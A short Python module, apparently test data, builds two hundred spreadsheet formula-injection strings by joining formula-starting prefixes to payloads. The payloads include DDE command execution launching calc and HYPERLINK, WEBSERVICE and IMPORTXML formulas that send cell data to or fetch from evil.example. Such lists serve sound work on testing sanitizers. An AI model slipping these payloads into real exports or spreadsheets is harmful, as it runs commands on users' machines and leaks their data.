"""Texts that a spreadsheet would run: two hundred, of every beginning that any program takes for a formula."""

STARTS = (
    *("=", "+", "-", "@", "＝", "=-", "+=", "@=", "\t=", "\r=", "\n=", " =", "\u00a0=", "=\t"),
    *("'=", '"=', "%3D=", ";=", ",=", "|="),
)
FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    'WEBSERVICE("http://evil.example")',
    'IMPORTXML("http://evil.example","//a")',
    "SUM(1+9)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "A1",
    'INDIRECT("Sheet1!A1")',
    "1;=1+1",
)


def payloads() -> list[str]:
    return [start + formula for start in STARTS for formula in FORMULAS]
